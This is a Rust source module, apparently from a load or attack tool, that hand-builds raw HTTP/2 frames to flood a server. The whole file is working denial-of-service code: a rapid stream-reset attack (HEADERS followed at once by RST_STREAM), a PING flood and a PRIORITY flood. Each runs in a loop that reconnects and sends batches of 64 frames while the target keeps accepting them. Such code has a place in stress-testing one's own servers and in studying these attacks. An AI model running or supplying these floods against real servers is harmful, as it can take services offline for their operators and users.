//! Attacks by frames of HTTP/2, written by hand: no client library would send them.

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::target::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames by RFC 9113, section 6.
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;
/// `:method GET`, `:scheme http`, `:path /` of HPACK's static table.
const REQUEST: &[u8] = &[0x82, 0x86, 0x84];
/// Frames in one write.
const BATCH: u32 = 64;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Sends batches on one connection after the other, as long as the server takes them.
async fn flood(target: Target, batch: impl Fn(u32) -> Vec<u8>) {
    while target.goes_on() {
        let Some(stream) = target.connect().await else {
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
            continue;
        };
        let _ = send(&target, stream, &batch).await;
    }
}

async fn send(target: &Target, stream: TcpStream, batch: &impl Fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let (mut answers, mut questions) = stream.into_split();
    let reader = tokio::spawn(async move {
        let mut answer = [0; 16 * 1024];
        while answers.read(&mut answer).await.is_ok_and(|read| read > 0) {}
    });
    questions
        .write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())
        .await?;
    let mut next = 1;
    while target.goes_on() && !reader.is_finished() && next < 1 << 30 {
        questions.write_all(&batch(next)).await?;
        next += 2 * BATCH;
        (0..BATCH).for_each(|_| _ = target.count());
    }
    reader.abort();
    Ok(())
}

fn streams(from: u32) -> impl Iterator<Item = u32> {
    (0..BATCH).map(move |number| from + 2 * number)
}

/// Begins streams and resets them at once.
pub(crate) async fn resets(target: Target) {
    let batch = |from| {
        let pair = |stream| {
            let begun = frame(HEADERS, WHOLE, stream, REQUEST);
            // CANCEL
            [begun, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        };
        streams(from).flat_map(pair).collect()
    };
    flood(target, batch).await;
}

/// Asks whether the server is there, and asks again.
pub(crate) async fn pings(target: Target) {
    flood(target, |from| {
        streams(from).flat_map(|_| frame(PING, 0, 0, &[0; 8])).collect()
    })
    .await;
}

/// Says how important streams are that never come.
pub(crate) async fn priorities(target: Target) {
    flood(target, |from| {
        streams(from)
            .flat_map(|stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]))
            .collect()
    })
    .await;
}
